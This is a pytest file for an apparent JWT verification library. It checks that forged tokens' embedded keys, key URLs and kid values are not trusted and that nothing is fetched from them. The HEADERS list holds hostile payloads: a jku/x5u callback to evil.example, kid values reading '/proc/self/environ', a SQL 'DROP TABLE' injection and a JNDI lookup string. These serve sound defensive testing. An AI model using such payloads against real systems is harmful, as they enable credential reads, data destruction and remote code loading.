"""The token brings its own key, or says where to fetch one, or which file to read (CVE-2018-0114, CVE-2026-27962)."""

from __future__ import annotations

import os
from typing import Any

import pytest

from garrison.crypto.key_set import KeySet
from garrison.guard.drive import drive
from garrison.tokens import Claims, Verifier, new_jwk, public_jwk, read_jwk
from garrison.tokens.checker import Checker, Trusted
from garrison.tokens.jwks import Jwks
from tests.tokens.making import AUDIENCE, CLAIMS, ISSUER, NOW, b64
from tests.tokens.world import Deployment, Publisher, reason

TRUSTED: Any
MINE: Any
TRUSTED, MINE = (read_jwk(new_jwk("ES256", os.urandom)) for _ in range(2))
JWK = public_jwk(MINE)
CALLBACK = "https://evil.example/jwks.json"


def forged(**header: Any) -> bytes:
    """Signed by the attacker's own key, under any header."""
    message = b64({"alg": "ES256", "typ": "at+jwt", **header}) + b"." + b64(CLAIMS)
    return bytes(message + b"." + MINE.sign(message))


HEADERS: list[dict[str, Any]] = [
    {"jwk": JWK},
    {"jwk": JWK, "kid": MINE.kid},
    {"jwk": JWK, "kid": TRUSTED.kid},
    {"jwk": {**JWK, "kid": TRUSTED.kid}, "kid": TRUSTED.kid},
    {"jku": CALLBACK, "kid": MINE.kid},
    {"jku": CALLBACK, "kid": TRUSTED.kid},
    {"x5u": CALLBACK, "kid": MINE.kid},
    {"x5c": ["MIIB"], "kid": MINE.kid},
    {"x5t": "AAAA", "x5t#S256": "AAAA", "kid": TRUSTED.kid},
    {"kid": CALLBACK},
    {"kid": "file:///dev/null"},
    {"kid": "/proc/self/environ"},
    {"kid": "'; DROP TABLE signing_keys; --"},
    {"kid": "${jndi:ldap://evil.example}"},
    {"kid": ""},
    {},
]


@pytest.mark.parametrize("header", HEADERS)
def test_what_a_token_brings_is_not_looked_at(header: dict[str, Any]) -> None:
    """And nothing is fetched from where it says."""
    one: Verifier[Claims] = Verifier(KeySet([TRUSTED]), ISSUER, AUDIENCE)

    assert reason(lambda: one.verify(forged(**header), NOW).sub) in {"signature", "key_unknown"}


@pytest.mark.parametrize("header", HEADERS)
def test_only_the_address_of_the_policy_is_ever_fetched(header: dict[str, Any]) -> None:
    """Through the whole checker, which may fetch."""
    asked: list[str] = []

    class Watched(Publisher):
        async def __call__(self, url: str) -> Any:
            asked.append(url)
            return await super().__call__(url)

    process = Deployment().process()
    source = Jwks("https://id.example.com/jwks.json", Watched(b'{"keys":[]}'))
    source.keys.replace([TRUSTED])
    one: Verifier[Claims] = Verifier(source.keys, ISSUER, AUDIENCE)
    checker = Checker([Trusted(one, source)], process.revoked, process.records)

    answer = reason(lambda: drive(checker.check(forged(**header), NOW, 0)))

    assert answer in {"signature", "key_unknown", "unavailable"}
    assert set(asked) <= {"https://id.example.com/jwks.json"}
